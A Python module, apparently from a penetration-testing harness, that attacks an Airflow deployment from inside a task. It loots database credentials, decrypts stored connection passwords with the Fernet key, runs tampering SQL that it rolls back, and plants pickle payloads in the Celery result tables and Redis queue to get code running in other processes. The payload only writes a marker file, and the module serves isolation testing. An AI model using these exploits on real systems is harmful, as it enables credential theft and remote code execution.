"""Attacks on Airflow's database with the best credential that a task can find. What they change is rolled back."""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from mallory_attacks import loot
from mallory_attacks.attack import Facts, Refused, attack, wrecking

PICKLE_TIMEOUT_S = 20.0


@contextlib.contextmanager
def _connection(facts: Facts) -> Iterator[Any]:
    import psycopg

    password = loot.best("database_password", facts)
    host, port = facts.database
    connection = psycopg.connect(
        host=host, port=port, user=_user(), password=password, dbname="airflow", sslmode="require", connect_timeout=5
    )
    with contextlib.closing(connection):
        yield connection
        connection.rollback()


def _user() -> str:
    for value in os.environb.values():
        match = loot.URL.search(value)
        if match and b"postgresql" in match[0]:
            return match[1].decode()
    return "airflow"


def _count(facts: Facts, statement: str) -> str:
    with _connection(facts) as connection:
        return f"{connection.execute(statement).rowcount} rows"


@attack
def database_without_a_credential(facts: Facts) -> str:
    """Sign in to the database without a password, with its address known."""
    import psycopg

    host, port = facts.database
    with psycopg.connect(host=host, port=port, user="airflow", dbname="airflow", connect_timeout=5):
        return "signed in"


@attack
def database_sign_in(facts: Facts) -> str:
    """Sign in to the database."""
    return _count(facts, "SELECT 1")


@attack
def database_as_airflow_is_configured(facts: Facts) -> str:
    """Open a session with Airflow's own models."""
    from airflow.configuration import conf

    url = str(conf.get("database", "sql_alchemy_conn", fallback=""))
    if "postgresql" not in url:
        raise Refused("Airflow is configured without this database")
    return "Airflow's configuration holds the address"


@attack
def database_update_connection(facts: Facts) -> str:
    """Change the connections of all DAGs."""
    return _count(facts, "UPDATE connection SET host = 'mallory'")


@attack
def database_update_dags(facts: Facts) -> str:
    """Change the stored DAGs."""
    return _count(facts, "UPDATE serialized_dag SET dag_hash = dag_hash")


@attack
def database_insert_trigger(facts: Facts) -> str:
    """Have the triggerer load a class."""
    return _count(
        facts,
        "INSERT INTO trigger (classpath, kwargs, created_date) VALUES ('mallory.Trigger', '{}', now())",
    )


@attack
def database_delete_runs(facts: Facts) -> str:
    """Delete the runs of all DAGs."""
    return _count(facts, "DELETE FROM dag_run WHERE dag_id = 'victim'")


@attack
def database_users(facts: Facts) -> str:
    """Make a user of its own in the database."""
    return _count(facts, "CREATE ROLE mallory LOGIN")


@attack
def database_decrypt_connection(facts: Facts) -> str:
    """Decrypt the password of a connection with the Fernet key."""
    from cryptography.fernet import Fernet

    key = loot.best("fernet_key", facts)
    with _connection(facts) as connection:
        row = connection.execute(
            "SELECT password FROM connection WHERE conn_id = %s", (facts.victim["connection"],)
        ).fetchone()
    return f"a password of {len(Fernet(key).decrypt(row[0].encode()))} characters"


class Payload:
    """Unpickled, it notes in which process it ran; `mark` tells one planted pickle from another."""

    def __init__(self, folder: Path, mark: str) -> None:
        self.folder, self.mark = str(folder), mark

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        path = f"__import__('pathlib').Path({self.folder!r}, 'unpickled-{self.mark}-%d' % __import__('os').getpid())"
        code = f"{path}.write_text(__import__('pathlib').Path('/proc/self/cmdline').read_text()) and None"
        return eval, (code,)


def _unpickled(facts: Facts, mark: str) -> list[str]:
    """Return the programs in which a payload ran, other than this process."""
    noted = [path for path in facts.drop.glob(f"unpickled-{mark}-*") if not path.name.endswith(f"-{os.getpid()}")]
    programs = [path.read_text(errors="replace").replace("\0", " ").split("bin/")[-1][:40] for path in noted]
    return sorted(set(programs))


@wrecking
def database_planted_pickle(facts: Facts) -> str:
    """Plant a pickle as the result of every task, for every process that reads results from the database."""
    with _connection(facts) as connection:
        # Every row of a task that has not ended is polled by the scheduler.
        planted = connection.execute(
            "UPDATE celery_taskmeta SET result = %s WHERE status NOT IN ('SUCCESS', 'FAILURE')",
            (pickle.dumps(Payload(facts.drop, "database")),),
        ).rowcount
        connection.commit()
    return _wait_for_payload(facts, "database", f"{planted} rows")


@wrecking
def broker_planted_pickle(facts: Facts) -> str:
    """Plant a pickle as the result and as the message of a task in Redis."""
    import base64
    import uuid

    from mallory_attacks.broker import QUEUE, _client, _message

    forged = json.loads(_message(str(uuid.uuid4())))
    forged["content-type"], forged["content-encoding"] = "application/x-python-serialize", "binary"
    forged["body"] = base64.b64encode(pickle.dumps(Payload(facts.drop, "broker"))).decode()
    with _client(facts) as client:
        planted = 0
        for key in client.scan_iter("celery-task-meta-*"):
            client.set(key, pickle.dumps(Payload(facts.drop, "broker")))
            planted += 1
        client.lpush(QUEUE, json.dumps(forged))
    return _wait_for_payload(facts, "broker", f"{planted} results and a message")


def _wait_for_payload(facts: Facts, mark: str, planted: str) -> str:
    deadline = time.monotonic() + PICKLE_TIMEOUT_S
    while not (programs := _unpickled(facts, mark)):
        if time.monotonic() > deadline:
            raise Refused(f"{planted} were planted, and no other process unpickled one")
        time.sleep(0.5)
    return f"ran in: {'; '.join(programs)}"
